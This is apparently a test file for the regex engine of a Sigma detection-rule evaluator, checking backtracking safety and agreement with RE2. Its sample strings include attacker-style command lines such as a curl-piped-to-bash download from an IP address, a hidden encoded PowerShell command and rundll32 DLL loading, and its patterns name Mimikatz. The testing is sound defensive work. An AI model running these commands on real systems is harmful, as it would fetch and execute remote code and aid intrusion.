import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { RE2JS } from 're2js';
import { backtrackSafeRegExp, compileRegex, requiredRegexLiteral } from './regex.js';
import { findRuleFiles } from '../loader/load.js';
import { CORPORA, SKIP_CORPORA } from '../testing/helpers.js';

const flags = { i: false, m: false, s: false };

test('required literals are only derived where every match must contain them', () => {
  assert.equal(requiredRegexLiteral('\\\\[a-z]{3,}\\.exe$'), '.exe');
  assert.equal(requiredRegexLiteral('(?i)invoke-mimikatz'), 'invoke-mimikatz');
  assert.equal(requiredRegexLiteral('foo|bar'), '');
  assert.equal(requiredRegexLiteral('abcd?ef'), 'abc');
  assert.equal(requiredRegexLiteral('ab(cd)*efgh'), 'efgh');
});

test('exponential and many-quantifier shapes never take the backtracking fast path', () => {
  for (const p of ['(a+)+b', '(a|aa)*c', '(x*y?)*z', '.*.*.*=', '(?=x)a', '(?i)(a+)+', 'a{1,1000}b*c*']) {
    assert.equal(backtrackSafeRegExp(p, flags), undefined, p);
  }
  for (const p of ['\\\\[a-z]{3,}\\.exe$', '(?i)^admin$', '-e(nc|ncodedcommand) [A-Za-z0-9+/=]{8,}', '(?:ab|cd)x']) {
    assert.ok(backtrackSafeRegExp(p, flags), p);
  }
});

test('long inputs run on RE2 and agree with short-input results', () => {
  const re = compileRegex('(?i)evil\\.exe$', flags, {});
  const long = 'x'.repeat(10_000) + '\\EVIL.exe';
  assert.equal(re.test(long, long.toLowerCase()), true);
  assert.equal(re.test('c:\\evil.exe', 'c:\\evil.exe'), true);
  assert.equal(re.test('c:\\evil.exe.txt', 'c:\\evil.exe.txt'), false);
});

test('native fast path and RE2 agree on every SigmaHQ regex over sample strings', { skip: SKIP_CORPORA }, () => {
  const samples = [
    'C:\\Windows\\System32\\cmd.exe /c whoami /all',
    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    'rundll32.exe C:\\Users\\Public\\a.dll,DllRegisterServer',
    'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater',
    '"C:\\Program Files\\x\\y.exe" --flag=1 \\\\10.0.0.5\\share\\p.bat',
    'curl http://198.51.100.7:8080/x.sh | bash',
  ];
  const { files } = findRuleFiles([join(CORPORA, 'sigma', 'rules')]);
  let compared = 0;
  for (const file of files) {
    const text = readFileSync(file, 'utf8');
    if (!text.includes('|re')) continue;
    for (const m of text.matchAll(/\|re(?:\|[ims])*:\s*'((?:[^']|'')+)'/g)) {
      const source = m[1]!.replace(/''/g, "'");
      const fast = backtrackSafeRegExp(source, flags);
      if (!fast) continue;
      const re2 = RE2JS.compile(source);
      for (const s of samples) {
        assert.equal(fast.test(s), re2.matcher(s).find(), `${file}: /${source}/ on ${s}`);
        compared++;
      }
    }
  }
  assert.ok(compared > 100, `compared ${compared}`);
});

test('minimum match length lets short values skip length-hungry regexes', async () => {
  const { minimumMatchLength } = await import('./regex.js');
  assert.equal(minimumMatchLength('.{1000,}'), 1000);
  assert.equal(minimumMatchLength('^ab+c?d*$'), 2);
  assert.equal(minimumMatchLength('(?i)\\\\[a-z]{3,}\\.exe$'), 8);
  assert.equal(minimumMatchLength('a|bcd'), 0);
  const re = compileRegex('.{1000,}', { i: false, m: false, s: false }, {});
  assert.equal(re.test('x'.repeat(999), ''), false);
  assert.equal(re.test('x'.repeat(1000), ''), true);
});
